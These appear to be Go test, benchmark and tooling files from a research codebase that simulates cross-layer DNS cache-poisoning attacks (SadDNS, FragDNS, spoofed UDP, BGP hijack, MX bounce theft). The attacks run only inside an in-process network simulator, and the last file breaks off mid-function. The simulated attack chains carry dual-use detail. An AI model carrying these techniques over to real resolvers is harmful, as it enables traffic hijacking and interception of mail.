package crosslayer_test

import (
	"net/netip"
	"testing"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/engine"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

// These tests pin the zero-allocation contract of the trial hot path:
// packing a DNS message into a reused buffer, serializing UDP/IPv4
// into sized buffers, and the netsim send/deliver cycle at steady
// state must not allocate. A regression here shows up as a number, not
// as a 5% benchmark drift someone has to argue about.

func TestAppendPackZeroAllocs(t *testing.T) {
	q := dnswire.NewQuery(0x1234, "www.vict.im.", dnswire.TypeA)
	q.SetEDNS(1232, false)
	var buf []byte
	// Warm the buffer to its steady-state capacity.
	wire, err := q.AppendPack(buf[:0])
	if err != nil {
		t.Fatal(err)
	}
	buf = wire
	allocs := testing.AllocsPerRun(100, func() {
		wire, err := q.AppendPack(buf[:0])
		if err != nil {
			t.Fatal(err)
		}
		buf = wire
	})
	if allocs != 0 {
		t.Fatalf("AppendPack into warmed buffer: %v allocs/op, want 0", allocs)
	}
}

func TestSerializeZeroAllocs(t *testing.T) {
	src := netip.MustParseAddr("10.0.0.1")
	dst := netip.MustParseAddr("10.0.0.2")
	payload := make([]byte, 512)
	u := packet.UDP{SrcPort: 5353, DstPort: 53, Payload: payload}
	ubuf := make([]byte, 0, packet.UDPHeaderLen+len(payload))
	ip := packet.IPv4{ID: 7, TTL: 64, Protocol: packet.ProtoUDP, Src: src, Dst: dst}
	ipbuf := make([]byte, 0, packet.IPv4HeaderLen+packet.UDPHeaderLen+len(payload))

	allocs := testing.AllocsPerRun(100, func() {
		uw, err := u.Serialize(ubuf[:0], src, dst)
		if err != nil {
			t.Fatal(err)
		}
		ip.Payload = uw
		if _, err := ip.Serialize(ipbuf[:0]); err != nil {
			t.Fatal(err)
		}
	})
	if allocs != 0 {
		t.Fatalf("UDP+IPv4 Serialize into sized buffers: %v allocs/op, want 0", allocs)
	}
}

// TestAppendNameZeroAllocs pins the append-style name decoder: walking
// a compressed wire name into a warmed caller-owned buffer must not
// touch the heap. This is the decode half of the resident-server
// hot-path contract (AppendPack is the encode half).
func TestAppendNameZeroAllocs(t *testing.T) {
	q := dnswire.NewQuery(0x1234, "a.b.c.www.vict.im.", dnswire.TypeA)
	wire, err := q.AppendPack(nil)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 0, dnswire.MaxNameLen)
	allocs := testing.AllocsPerRun(100, func() {
		out, _, err := dnswire.AppendName(buf[:0], wire, dnswire.HeaderLen)
		if err != nil {
			t.Fatal(err)
		}
		buf = out
	})
	if allocs != 0 {
		t.Fatalf("AppendName into warmed buffer: %v allocs/op, want 0", allocs)
	}
	if string(buf) != "a.b.c.www.vict.im." {
		t.Fatalf("decoded %q", buf)
	}
}

// TestSteadyStateSendZeroAllocs drives a full spoofed-send round trip —
// serialize into a pooled buffer, schedule, deliver, recycle — and
// requires the warmed network to stop allocating: the wire pool feeds
// payload buffers back, the clock's event freelist feeds events back,
// and the delivery freelist feeds delivery nodes back.
func TestSteadyStateSendZeroAllocs(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 42})
	payload := make([]byte, 128)
	sink := 0
	s.ResolverHost.BindUDP(12345, func(dg netsim.Datagram) { sink += len(dg.Payload) })
	round := func() {
		s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, 12345, payload)
		s.Net.Run()
	}
	// Warm pools, freelists and the host's receive path.
	for i := 0; i < 10; i++ {
		round()
	}
	if allocs := testing.AllocsPerRun(100, round); allocs != 0 {
		t.Fatalf("steady-state spoofed send: %v allocs/op, want 0", allocs)
	}
	if sink == 0 {
		t.Fatal("payloads never delivered")
	}
}

// TestResolverRoundTripZeroAllocs pins the resolver's full-resolution
// path at zero allocations per upstream round trip. The measurement is
// differential: two resolvers identical except for the retry count
// resolve against a muted server, and a resolution with four extra
// retransmission round trips must allocate exactly as much as one with
// none — the per-resolution cost (inflight struct, handler closure,
// callback slice) is allowed, a per-attempt cost is the regression.
func TestResolverRoundTripZeroAllocs(t *testing.T) {
	build := func(retries int) *scenario.S {
		prof := resolver.ProfileBIND
		prof.Retries = retries
		s := scenario.New(scenario.Config{Seed: 42, Profile: prof})
		// Route the test zone into a black hole — an address no host
		// owns, so the network drops each query after the propagation
		// delay and the only work measured is the resolver's own
		// retransmission machinery (a muted *server* would still pay
		// an Unpack per delivery and pollute the differential).
		s.Resolver.AddZoneServer("dead.vict.im.", netip.MustParseAddr("203.0.113.99"))
		return s
	}
	perResolution := func(s *scenario.S) float64 {
		round := func() {
			s.Resolver.Lookup("dead.vict.im.", dnswire.TypeA, func([]*dnswire.RR, error) {})
			s.Run()
		}
		for i := 0; i < 10; i++ {
			round() // warm wire pool, event freelist, port maps
		}
		return testing.AllocsPerRun(50, round)
	}
	base := perResolution(build(0))
	extra := perResolution(build(4))
	if extra != base {
		t.Fatalf("4 extra upstream round trips cost %v allocs (%v vs %v per resolution), want 0",
			extra-base, extra, base)
	}
}

// TestEngineDispatchAllocs bounds the engine's own per-trial overhead:
// dispatching trials through the burst executor must cost well under
// one allocation per trial once the per-job slices are amortized.
func TestEngineDispatchAllocs(t *testing.T) {
	const trials = 1024
	j := engine.Job{Items: trials, ShardSize: 1, Seed: 1, Parallelism: 1}
	allocs := testing.AllocsPerRun(10, func() {
		out := engine.RunWorkers(j, func() *struct{} { return nil },
			func(_ *struct{}, sh engine.Shard) int { return sh.Start })
		if len(out) != trials {
			t.Fatalf("%d results", len(out))
		}
	})
	if perTrial := allocs / trials; perTrial > 0.1 {
		t.Fatalf("engine dispatch: %v allocs/trial, want < 0.1", perTrial)
	}
}

// TestResetTrialAllocs bounds the steady-state cost of the build-once/
// reset-per-trial lifecycle. Both lifecycles run the same trial — one
// full resolution — so both pay its bookkeeping (the inflight record,
// the handler closure, cache inserts); the reset trial must shed the
// world-assembly cost on top, staying well under a third of the legacy
// build-per-trial figure. A regression here means Reset started
// rebuilding state that New owns, or a freelist stopped being reused.
func TestResetTrialAllocs(t *testing.T) {
	resolve := func(s *scenario.S) {
		done := false
		s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(_ []*dnswire.RR, err error) {
			done = err == nil
		})
		s.Run()
		if !done {
			t.Fatal("resolution failed")
		}
	}
	freshAllocs := testing.AllocsPerRun(5, func() {
		resolve(scenario.New(scenario.Config{Seed: 42}))
	})

	s := scenario.New(scenario.Config{Seed: 42})
	s.Snapshot()
	trial := func() {
		s.Reset(42)
		resolve(s)
	}
	for i := 0; i < 10; i++ {
		trial() // warm pools, freelists and lazily-created maps
	}
	resetAllocs := testing.AllocsPerRun(50, trial)
	if resetAllocs*3 > freshAllocs {
		t.Fatalf("reset-path trial: %v allocs vs %v for a build-per-trial run; want under a third",
			resetAllocs, freshAllocs)
	}
}
