package crosslayer_test

// Benchmark harness: one benchmark per table and figure of the paper's
// evaluation (see DESIGN.md's per-experiment index), plus
// micro-benchmarks of the hot substrate paths. Regenerate everything
// with:
//
//	go test -bench=. -benchmem
//
// Table/figure benchmarks measure a full regeneration run on scaled
// populations; their per-op cost documents what `cmd/xlmeasure` does.

import (
	"context"
	"fmt"
	"net/netip"
	"runtime"
	"testing"

	"crosslayer"
	"crosslayer/internal/apps"
	"crosslayer/internal/bgp"
	"crosslayer/internal/campaign"
	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/ipfrag"
	"crosslayer/internal/measure"
	"crosslayer/internal/packet"
	"crosslayer/internal/scenario"
	"crosslayer/internal/sim"
)

// --- Table benchmarks ---

func BenchmarkTable1Applications(b *testing.B) {
	b.ReportAllocs()
	// One representative Table 1 exploitation chain per iteration:
	// poisoned MX -> bounce theft.
	for i := 0; i < b.N; i++ {
		s := scenario.New(scenario.Config{Seed: int64(i)})
		ms := apps.NewMailServer(s.ServiceHost, scenario.ResolverIP, "victim-net.example.")
		sink := apps.NewMailSink(s.Attacker)
		s.Resolver.Cache.Put("vict.im.", dnswire.TypeMX,
			[]*dnswire.RR{dnswire.NewMX("vict.im.", 300, 5, "mail.atk.example.")})
		ms.Deliver(apps.Mail{From: "a@vict.im", To: "ghost@victim-net.example.", Body: "x", SenderIP: scenario.VictimMail}, nil)
		s.Run()
		if len(sink.Received) != 1 {
			b.Fatal("chain broken")
		}
	}
}

func BenchmarkTable2Middleboxes(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s := scenario.New(scenario.Config{Seed: int64(i)})
		apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA})
		for _, prof := range apps.Table2Profiles() {
			if prof.Trigger != apps.TriggerOnDemand {
				continue
			}
			mb := apps.NewMiddlebox(s.ServiceHost, scenario.ResolverIP, prof, "www.vict.im.")
			mb.HandleClientRequest("/", func(apps.FetchResult) {})
		}
		s.Run()
	}
}

func BenchmarkTable3Resolvers(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, res := measure.Table3(40, int64(i)); len(res) != 9 {
			b.Fatal("datasets missing")
		}
	}
}

func BenchmarkTable4Domains(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, res := measure.Table4(30, int64(i)); len(res) != 10 {
			b.Fatal("datasets missing")
		}
	}
}

// BenchmarkTable3Parallel measures the sharded engine against the
// serial path on one 5k-resolver population (the open-resolver
// dataset): sub-benchmark p1 is the serial baseline, pN uses every
// core. At 4+ cores pN should show the >=2x speedup the engine's
// shard fan-out exists for; results are byte-identical either way.
func BenchmarkTable3Parallel(b *testing.B) {
	spec := measure.Table3Datasets()[7]
	for _, p := range parallelismLevels() {
		b.Run(fmt.Sprintf("p%d", p), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				cfg := measure.Config{Seed: int64(i), Parallelism: p}
				r, err := measure.ScanResolverDataset(context.Background(), spec, 5000, cfg)
				if err != nil || r.Scanned != 5000 {
					b.Fatalf("scanned %d (%v)", r.Scanned, err)
				}
			}
		})
	}
}

// BenchmarkTable4Parallel is the domain-side counterpart on the RIR
// whois dataset. Domain scans are far heavier per item (each RRL probe
// is a 400-query burst), so the population is smaller.
func BenchmarkTable4Parallel(b *testing.B) {
	spec := measure.Table4Datasets()[4]
	for _, p := range parallelismLevels() {
		b.Run(fmt.Sprintf("p%d", p), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				cfg := measure.Config{Seed: int64(i), Parallelism: p, ShardSize: 64}
				r, err := measure.ScanDomainDataset(context.Background(), spec, 512, cfg)
				if err != nil || r.Scanned != 512 {
					b.Fatalf("scanned %d (%v)", r.Scanned, err)
				}
			}
		})
	}
}

// parallelismLevels returns the serial baseline plus the full-machine
// level (when the machine has more than one core to show).
func parallelismLevels() []int {
	levels := []int{1}
	if n := runtime.GOMAXPROCS(0); n > 1 {
		levels = append(levels, n)
	}
	return levels
}

func BenchmarkTable5ANYCaching(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, res := measure.Table5(int64(i)); len(res) != 5 {
			b.Fatal("profiles missing")
		}
	}
}

func BenchmarkTable6Comparison(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		cmp := measure.RunComparison(int64(i), 800)
		if !cmp.Hijack.Success || !cmp.FragGlobal.Success {
			b.Fatal("deterministic attacks failed")
		}
	}
}

// BenchmarkCampaign measures one representative campaign slice per
// iteration: every method and scalar defense (lattice rank 1) against
// the web victim on the BIND profile over the direct path (15 cells,
// one trial each) — the cost profile of the matrix's dominant cell
// kinds without the full cross-product sweep.
func BenchmarkCampaign(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		res, err := campaign.Run(campaign.Config{
			Exec: measure.Config{Seed: int64(i)},
			Filter: campaign.Filter{Victims: []string{"web"}, Profiles: []string{"bind"},
				ChainDepths: []string{"0"}, Placements: []string{"stub"},
				Transports: []string{"udp"}},
			Trials:      1,
			LatticeRank: 1,
		})
		if err != nil {
			b.Fatal(err)
		}
		if len(res) != 15 {
			b.Fatalf("%d cells", len(res))
		}
	}
}

// BenchmarkCampaignLattice measures the defense-stacking cell kinds:
// the default defense-set lattice (baseline, singletons, pairs, full
// stack — 12 sets) swept with the deterministic hijack method against
// the web victim on BIND (12 cells, one trial each), rendered through
// the Lattice marginal-coverage view — the incremental cost a
// set-valued defense axis adds over the scalar one.
func BenchmarkCampaignLattice(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		res, err := campaign.Run(campaign.Config{
			Exec: measure.Config{Seed: int64(i)},
			Filter: campaign.Filter{Methods: []string{"hijack"},
				Victims: []string{"web"}, Profiles: []string{"bind"},
				ChainDepths: []string{"0"}, Placements: []string{"stub"},
				Transports: []string{"udp"}},
			Trials: 1,
		})
		if err != nil {
			b.Fatal(err)
		}
		if len(res) != 12 {
			b.Fatalf("%d cells", len(res))
		}
		if out := campaign.Lattice(res).String(); out == "" {
			b.Fatal("empty lattice")
		}
	}
}

// BenchmarkCampaignChain measures the forwarder-chain cell kinds:
// every method at every chain depth from both placements against the
// undefended web victim on BIND (24 cells, one trial each) — the cost
// the two new axes add per cell, including chain construction and
// weakest-hop scans.
func BenchmarkCampaignChain(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		res, err := campaign.Run(campaign.Config{
			Exec: measure.Config{Seed: int64(i)},
			Filter: campaign.Filter{Victims: []string{"web"}, Profiles: []string{"bind"},
				Defenses: []string{"none"}, Transports: []string{"udp"}},
			Trials: 1,
		})
		if err != nil {
			b.Fatal(err)
		}
		if len(res) != 24 {
			b.Fatalf("%d cells", len(res))
		}
	}
}

// BenchmarkReportRender isolates the Report indirection on the
// campaign hot path: cells are computed once, and each iteration
// builds the full four-view Report family and renders it to text —
// the work the old renderers did directly on strings. Compare against
// BenchmarkCampaign/BenchmarkCampaignLattice (which include the
// simulation) to see that building structured Reports instead of
// formatted text adds no measurable cost.
func BenchmarkReportRender(b *testing.B) {
	cells, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 1},
		Filter: campaign.Filter{Victims: []string{"web"}, Profiles: []string{"bind"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials: 2,
	})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		n := 0
		for _, rep := range []crosslayer.TableResult{
			campaign.Matrix(cells), campaign.Summary(cells),
			campaign.DepthTable(cells), campaign.TransportTable(cells), campaign.Lattice(cells),
		} {
			n += len(rep.String())
		}
		if n == 0 {
			b.Fatal("empty render")
		}
	}
}

// --- Figure benchmarks ---

func BenchmarkFigure1SadDNS(b *testing.B) {
	b.ReportAllocs()
	// Figure 1 is the SadDNS sequence: one full attack per iteration.
	for i := 0; i < b.N; i++ {
		cfg := scenario.Config{Seed: int64(i)}
		cfg.ServerCfg = dnssrv.DefaultConfig()
		cfg.ServerCfg.RateLimit = true
		cfg.ServerCfg.RateLimitQPS = 10
		s := scenario.New(cfg)
		s.ResolverHost.Cfg.PortMin = 32768
		s.ResolverHost.Cfg.PortMax = 32768 + 399
		res := crosslayer.RunSadDNS(s, crosslayer.AttackOptions{MaxIterations: 20})
		if !res.Success {
			b.Fatalf("saddns failed: %+v", res)
		}
	}
}

func BenchmarkFigure2FragDNS(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		cfg := scenario.Config{Seed: int64(i)}
		cfg.ServerCfg = dnssrv.DefaultConfig()
		cfg.ServerCfg.PadAnswersTo = 1200
		s := scenario.New(cfg)
		res := crosslayer.RunFragDNS(s, crosslayer.AttackOptions{})
		if !res.Success {
			b.Fatalf("fragdns failed: %+v", res)
		}
	}
}

func BenchmarkFigure3Prefixes(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		out, _ := measure.Figure3(60, int64(i))
		if len(out) == 0 {
			b.Fatal("empty figure")
		}
	}
}

func BenchmarkFigure4EDNS(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		out, _, _ := measure.Figure4(60, int64(i))
		if len(out) == 0 {
			b.Fatal("empty figure")
		}
	}
}

func BenchmarkFigure5Venn(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		out, rv, _ := measure.Figure5(40, int64(i))
		if len(out) == 0 || rv.Total() == 0 {
			b.Fatal("empty venn")
		}
	}
}

func BenchmarkSamePrefixHijack(b *testing.B) {
	b.ReportAllocs()
	rng := sim.NewClock(7).NewRand()
	topo := bgp.Generate(bgp.GenConfig{}, rng)
	asns := topo.ASNs()
	p := netip.MustParsePrefix("10.0.0.0/22")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		v := asns[rng.Intn(len(asns))]
		a := asns[rng.Intn(len(asns))]
		if v == a {
			continue
		}
		bgp.SamePrefixHijackWins(topo, p, v, a, asns)
	}
}

// --- Substrate micro-benchmarks ---

func BenchmarkIPv4SerializeDecode(b *testing.B) {
	ip := &packet.IPv4{ID: 7, TTL: 64, Protocol: packet.ProtoUDP,
		Src: scenario.NSIP, Dst: scenario.ResolverIP, Payload: make([]byte, 512)}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		wire, err := ip.Serialize(nil)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := packet.DecodeIPv4(wire); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDNSMessagePackUnpack(b *testing.B) {
	m := &dnswire.Message{ID: 1, Response: true,
		Questions: []dnswire.Question{{Name: "www.vict.im.", Type: dnswire.TypeA, Class: dnswire.ClassIN}}}
	for i := 0; i < 12; i++ {
		m.Answers = append(m.Answers, dnswire.NewTXT("www.vict.im.", 300, fmt.Sprintf("record %d padding padding padding", i)))
	}
	m.Answers = append(m.Answers, dnswire.NewA("www.vict.im.", 300, scenario.VictimWWW))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		wire, err := m.Pack()
		if err != nil {
			b.Fatal(err)
		}
		if _, err := dnswire.Unpack(wire); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDefragReassembly(b *testing.B) {
	orig := &packet.IPv4{ID: 9, TTL: 64, Protocol: packet.ProtoUDP,
		Src: scenario.NSIP, Dst: scenario.ResolverIP, Payload: make([]byte, 1400)}
	frags, _ := orig.Fragment(576)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c := ipfrag.New(0, 0)
		for j, f := range frags {
			cp := *f
			cp.ID = uint16(i)
			out := c.Insert(&cp, 0)
			if j == len(frags)-1 && out == nil {
				b.Fatal("no reassembly")
			}
		}
	}
}

func BenchmarkResolverFullResolution(b *testing.B) {
	b.ReportAllocs()
	s := scenario.New(scenario.Config{Seed: 5})
	names := make([]string, 64)
	for i := range names {
		names[i] = fmt.Sprintf("h%d.vict.im.", i)
		s.VictimZone.Add(dnswire.NewA(names[i], 1, scenario.VictimWWW))
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		done := false
		s.Resolver.Lookup(names[i%len(names)], dnswire.TypeA, func(rrs []*dnswire.RR, err error) {
			done = err == nil
		})
		s.Run()
		if !done {
			b.Fatal("resolution failed")
		}
		if i%len(names) == len(names)-1 {
			s.Resolver.Cache.Flush()
			s.Clock.RunFor(2e9)
		}
	}
}

func BenchmarkCraftSecondFragment(b *testing.B) {
	cfg := dnssrv.DefaultConfig()
	cfg.PadAnswersTo = 1200
	s := scenario.New(scenario.Config{Seed: 6, ServerCfg: cfg})
	q := dnswire.NewQuery(1, "www.vict.im.", dnswire.TypeA)
	q.SetEDNS(4096, false)
	wire, _ := s.NS.BuildResponse(q).Pack()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, _, ok := core.CraftSecondFragment(wire, 552, scenario.AttackerIP); !ok {
			b.Fatal("craft failed")
		}
	}
}

func BenchmarkBGPPropagation(b *testing.B) {
	b.ReportAllocs()
	rng := sim.NewClock(8).NewRand()
	topo := bgp.Generate(bgp.GenConfig{Stubs: 800}, rng)
	p := netip.MustParsePrefix("10.0.0.0/22")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		routes := topo.Propagate([]bgp.Announcement{{Prefix: p, Origin: bgp.ASN(100 + i%500)}}, nil)
		if len(routes) == 0 {
			b.Fatal("no routes")
		}
	}
}

func BenchmarkSadDNSPortScanWindow(b *testing.B) {
	b.ReportAllocs()
	// Cost of one 50-probe + verification side-channel window.
	cfg := scenario.Config{Seed: 9}
	s := scenario.New(cfg)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for p := uint16(1000); p < 1050; p++ {
			s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, p, []byte("probe"))
		}
		s.Attacker.SendUDP(777, scenario.ResolverIP, 700, []byte("verify"))
		s.Net.Run()
	}
}

func BenchmarkResolverCacheHit(b *testing.B) {
	s := scenario.New(scenario.Config{Seed: 10})
	done := false
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func([]*dnswire.RR, error) { done = true })
	s.Run()
	if !done {
		b.Fatal("priming failed")
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		hit := false
		s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(rrs []*dnswire.RR, err error) { hit = err == nil })
		if !hit {
			b.Fatal("cache miss")
		}
	}
}

// BenchmarkScenarioNew measures assembling one complete default world
// from scratch — AS topology, RIB convergence, hosts, zones, resolver —
// the per-trial cost the prototype lifecycle amortizes away.
func BenchmarkScenarioNew(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s := scenario.New(scenario.Config{Seed: int64(i)})
		if s.Resolver == nil {
			b.Fatal("no resolver")
		}
	}
}

// BenchmarkTrialReset measures the steady-state per-trial cost under
// the prototype lifecycle: rewind the assembled world, then drive one
// full resolution through it. The gap to BenchmarkScenarioNew is what
// build-once/reset-per-trial saves on every trial after the first.
func BenchmarkTrialReset(b *testing.B) {
	s := scenario.New(scenario.Config{Seed: 42})
	s.Snapshot()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Reset(int64(i))
		done := false
		s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(_ []*dnswire.RR, err error) {
			done = err == nil
		})
		s.Run()
		if !done {
			b.Fatal("resolution failed after reset")
		}
	}
}
