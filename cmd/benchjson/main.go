// Command benchjson converts `go test -bench` output on stdin into a
// JSON document on stdout mapping each benchmark to its ns/op (and,
// when -benchmem or b.ReportAllocs() provided them, B/op and
// allocs/op) — the machine-readable perf record CI uploads as
// BENCH_ci.json so the repository accumulates a benchmark trajectory
// across commits.
//
// With -compare it becomes the perf gate instead: it reads two such
// JSON files, prints a comparison table, and exits 1 if any benchmark
// regressed beyond the tolerance.
//
// Usage:
//
//	go test -run '^$' -bench . -benchtime=1x ./... | benchjson > BENCH_ci.json
//	benchjson -compare -tolerance 15 BENCH_2.json BENCH_ci.json
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"regexp"
	"strconv"
	"strings"
	"text/tabwriter"
)

// benchLine matches one benchmark result line, e.g.
//
//	BenchmarkCampaign-8   1   123456789 ns/op   512 B/op   7 allocs/op
//
// The B/op and allocs/op groups are optional: only benchmarks that
// call b.ReportAllocs() (or runs under -benchmem) emit them.
var benchLine = regexp.MustCompile(`^(Benchmark\S+)\s+(\d+)\s+([0-9.]+) ns/op(?:\s+([0-9.]+) B/op\s+(\d+) allocs/op)?`)

// Result is one parsed benchmark measurement.
type Result struct {
	// Name is the benchmark with its GOMAXPROCS suffix stripped.
	Name string `json:"name"`
	// Iterations is the b.N the measurement ran.
	Iterations int `json:"iterations"`
	// NsPerOp is the reported nanoseconds per operation.
	NsPerOp float64 `json:"ns_per_op"`
	// BytesPerOp and AllocsPerOp are the memory columns; -1 when the
	// benchmark did not report them (0 is a real, meaningful value on
	// the zero-allocation paths this repo gates, so absence cannot be
	// encoded as 0).
	BytesPerOp  float64 `json:"bytes_per_op"`
	AllocsPerOp float64 `json:"allocs_per_op"`
}

// Parse extracts benchmark results from go-test bench output.
func Parse(r *bufio.Scanner) ([]Result, error) {
	var out []Result
	for r.Scan() {
		m := benchLine.FindStringSubmatch(strings.TrimSpace(r.Text()))
		if m == nil {
			continue
		}
		iters, err := strconv.Atoi(m[2])
		if err != nil {
			return nil, fmt.Errorf("benchjson: bad iteration count in %q: %w", r.Text(), err)
		}
		ns, err := strconv.ParseFloat(m[3], 64)
		if err != nil {
			return nil, fmt.Errorf("benchjson: bad ns/op in %q: %w", r.Text(), err)
		}
		res := Result{Name: stripProcs(m[1]), Iterations: iters, NsPerOp: ns,
			BytesPerOp: -1, AllocsPerOp: -1}
		if m[4] != "" {
			if res.BytesPerOp, err = strconv.ParseFloat(m[4], 64); err != nil {
				return nil, fmt.Errorf("benchjson: bad B/op in %q: %w", r.Text(), err)
			}
			if res.AllocsPerOp, err = strconv.ParseFloat(m[5], 64); err != nil {
				return nil, fmt.Errorf("benchjson: bad allocs/op in %q: %w", r.Text(), err)
			}
		}
		out = append(out, res)
	}
	return out, r.Err()
}

// stripProcs drops the -N GOMAXPROCS suffix so records compare across
// machines.
func stripProcs(name string) string {
	if i := strings.LastIndex(name, "-"); i > 0 {
		if _, err := strconv.Atoi(name[i+1:]); err == nil {
			return name[:i]
		}
	}
	return name
}

// Compare diffs a new benchmark record against a baseline and renders
// the verdict table. It reports breach when any baseline benchmark is
// slower in the new record by more than tolerancePct percent, or is
// missing from it entirely (a silently dropped benchmark must not
// pass the gate). Benchmarks only present in the new record are noted
// but never a breach — adding coverage is not a regression.
func Compare(oldRes, newRes []Result, tolerancePct float64) (string, bool) {
	newBy := make(map[string]Result, len(newRes))
	for _, r := range newRes {
		newBy[r.Name] = r
	}
	var b strings.Builder
	tw := tabwriter.NewWriter(&b, 2, 8, 2, ' ', 0)
	fmt.Fprintf(tw, "benchmark\tbase ns/op\tnew ns/op\tdelta\tallocs\tverdict\n")
	breach := false
	for _, o := range oldRes {
		n, ok := newBy[o.Name]
		if !ok {
			breach = true
			fmt.Fprintf(tw, "%s\t%.0f\t-\t-\t%s\tBREACH (missing from new record)\n",
				o.Name, o.NsPerOp, allocDelta(o.AllocsPerOp, -1))
			continue
		}
		delete(newBy, o.Name)
		deltaPct := 100 * (n.NsPerOp - o.NsPerOp) / o.NsPerOp
		verdict := "ok"
		if deltaPct > tolerancePct {
			breach = true
			verdict = fmt.Sprintf("BREACH (+%.1f%% > %.1f%% tolerance)", deltaPct, tolerancePct)
		}
		fmt.Fprintf(tw, "%s\t%.0f\t%.0f\t%+.1f%%\t%s\t%s\n",
			o.Name, o.NsPerOp, n.NsPerOp, deltaPct, allocDelta(o.AllocsPerOp, n.AllocsPerOp), verdict)
	}
	// Deterministic order for the leftovers: walk newRes, not the map.
	for _, n := range newRes {
		if _, leftover := newBy[n.Name]; leftover {
			fmt.Fprintf(tw, "%s\t-\t%.0f\t-\t%s\tnew (not in baseline)\n",
				n.Name, n.NsPerOp, allocDelta(-1, n.AllocsPerOp))
		}
	}
	tw.Flush()
	if breach {
		fmt.Fprintf(&b, "\nFAIL: regression beyond %.1f%% tolerance.\n", tolerancePct)
		fmt.Fprintf(&b, "If the slowdown is intended, refresh the baseline:\n")
		fmt.Fprintf(&b, "  go test -run '^$' -bench . -benchtime=3x . | go run ./cmd/benchjson > BENCH_2.json\n")
	}
	return b.String(), breach
}

// allocDelta renders the allocs/op transition, tolerating sides that
// did not report allocations (-1, rendered as "?").
func allocDelta(oldAllocs, newAllocs float64) string {
	fmtOne := func(a float64) string {
		if a < 0 {
			return "?"
		}
		return strconv.FormatFloat(a, 'f', -1, 64)
	}
	return fmtOne(oldAllocs) + "→" + fmtOne(newAllocs)
}

func readRecord(path string) ([]Result, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	// Records written before the memory columns existed have no
	// bytes_per_op/allocs_per_op keys at all; pointer fields keep that
	// distinguishable from a genuine 0 so absence maps to -1.
	type rec struct {
		Name        string   `json:"name"`
		Iterations  int      `json:"iterations"`
		NsPerOp     float64  `json:"ns_per_op"`
		BytesPerOp  *float64 `json:"bytes_per_op"`
		AllocsPerOp *float64 `json:"allocs_per_op"`
	}
	var raw []rec
	if err := json.Unmarshal(data, &raw); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	out := make([]Result, len(raw))
	for i, r := range raw {
		out[i] = Result{Name: r.Name, Iterations: r.Iterations, NsPerOp: r.NsPerOp,
			BytesPerOp: -1, AllocsPerOp: -1}
		if r.BytesPerOp != nil {
			out[i].BytesPerOp = *r.BytesPerOp
		}
		if r.AllocsPerOp != nil {
			out[i].AllocsPerOp = *r.AllocsPerOp
		}
	}
	return out, nil
}

func main() {
	compare := flag.Bool("compare", false, "compare two benchmark JSON files (baseline, new) instead of parsing stdin")
	tolerance := flag.Float64("tolerance", 15, "percent slowdown allowed before -compare fails")
	flag.Parse()

	if *compare {
		if flag.NArg() != 2 {
			fmt.Fprintln(os.Stderr, "usage: benchjson -compare [-tolerance pct] baseline.json new.json")
			os.Exit(2)
		}
		oldRes, err := readRecord(flag.Arg(0))
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		newRes, err := readRecord(flag.Arg(1))
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		table, breach := Compare(oldRes, newRes, *tolerance)
		fmt.Print(table)
		if breach {
			os.Exit(1)
		}
		return
	}

	sc := bufio.NewScanner(os.Stdin)
